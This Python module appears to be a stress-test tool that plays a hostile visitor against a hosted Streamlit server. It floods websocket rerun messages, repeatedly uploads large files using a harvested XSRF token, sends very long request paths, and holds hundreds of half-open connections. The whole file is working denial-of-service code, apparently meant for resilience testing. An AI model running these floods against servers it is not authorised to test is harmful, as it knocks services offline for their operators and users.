"""A hostile visitor of a hosted server: floods of messages, uploads, half-open connections, long addresses."""

import asyncio
from collections.abc import Coroutine
from contextlib import suppress
from time import monotonic
from typing import Any, Final
from urllib.parse import urlsplit
from urllib.request import urlopen
from uuid import uuid4

from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import WebSocketException

from bench.tab import Tab, connect_options, socket_url

_TABS: Final = 5
_MESSAGES_PER_SECOND: Final = 200  # of each tab
_HALF_OPEN: Final = 900
_UPLOAD: Final = (
    b'--x\r\nContent-Disposition: form-data; name="f"; filename="a.csv"\r\n\r\n'
    + b"a" * 15 * 1024**2
    + b"\r\n--x--\r\n"
)
_PAUSE_SECONDS: Final = 0.5


def run(url: str, cookie: str, seconds: float) -> None:
    """Attack a server for so many seconds."""
    asyncio.run(_attack(url, cookie, monotonic() + seconds))


async def _attack(url: str, cookie: str, end: float) -> None:
    options = connect_options(url)
    options["additional_headers"]["Cookie"] = cookie
    acts: list[Coroutine[Any, Any, None]] = [_flood(url, options, end) for _ in range(_TABS)]
    acts += [_upload(url, cookie, options, end), _ask_long(url, cookie, end), _hold_half_open(url, end)]
    await asyncio.gather(*acts)


async def _flood(url: str, options: dict[str, Any], end: float) -> None:
    while monotonic() < end:
        with suppress(OSError, WebSocketException):
            async with connect(socket_url(url), **options) as socket:
                reading = asyncio.create_task(_discard(socket))
                while monotonic() < end:
                    await socket.send(Tab(url, "results").rerun_message())
                    await asyncio.sleep(1 / _MESSAGES_PER_SECOND)
                reading.cancel()
        await asyncio.sleep(_PAUSE_SECONDS)


async def _discard(socket: ClientConnection) -> None:
    with suppress(WebSocketException):
        async for _ in socket:
            pass


async def _upload(url: str, cookie: str, options: dict[str, Any], end: float) -> None:
    with await asyncio.to_thread(urlopen, f"{url}/_stcore/health") as answer:
        cookies = [header.partition(";")[0] for header in answer.headers.get_all("Set-Cookie")]
    token = next(value for value in cookies if value.startswith("_streamlit_xsrf"))
    head = (
        f"Host: {urlsplit(url).netloc}\r\nOrigin: {url}\r\nCookie: {cookie}; {token}\r\nX-Xsrftoken: "
        f"{token.partition('=')[2]}\r\nContent-Type: multipart/form-data; boundary=x\r\nConnection: close\r\n"
        f"Content-Length: {len(_UPLOAD)}\r\n\r\n"
    )
    async with connect(socket_url(url), **options) as socket:
        await socket.send(Tab(url).rerun_message())
        session = await _session_of(socket)
        reading = asyncio.create_task(_discard(socket))
        while monotonic() < end:
            line = f"PUT /_stcore/upload_file/{session}/{uuid4()} HTTP/1.1\r\n"
            await _exchange(url, line.encode() + head.encode() + _UPLOAD)
            await asyncio.sleep(_PAUSE_SECONDS)
        reading.cancel()


async def _session_of(socket: ClientConnection) -> str:
    while True:
        message = ForwardMsg.FromString(await socket.recv(decode=False))
        if message.WhichOneof("type") == "new_session":
            return message.new_session.initialize.session_id


async def _ask_long(url: str, cookie: str, end: float) -> None:
    head = f" HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nCookie: {cookie}\r\nConnection: close\r\n\r\n"
    while monotonic() < end:
        await _exchange(url, b"GET /" + b"a." * 30_000 + head.encode())
        await asyncio.sleep(_PAUSE_SECONDS)


async def _hold_half_open(url: str, end: float) -> None:
    writers: list[asyncio.StreamWriter] = []
    while monotonic() < end:
        writers = [writer for writer in writers if not writer.transport.is_closing()]
        with suppress(OSError):
            for _ in range(min(50, _HALF_OPEN - len(writers))):
                _, writer = await _opened(url)
                writer.write(b"GET / HTTP/1.1\r\nHost: ")
                writers.append(writer)
        await asyncio.sleep(_PAUSE_SECONDS)


async def _exchange(url: str, request: bytes) -> None:
    with suppress(OSError):
        reader, writer = await _opened(url)
        writer.write(request)
        await reader.read()
        writer.close()


async def _opened(url: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    address = urlsplit(url)
    return await asyncio.open_connection(address.hostname, address.port)
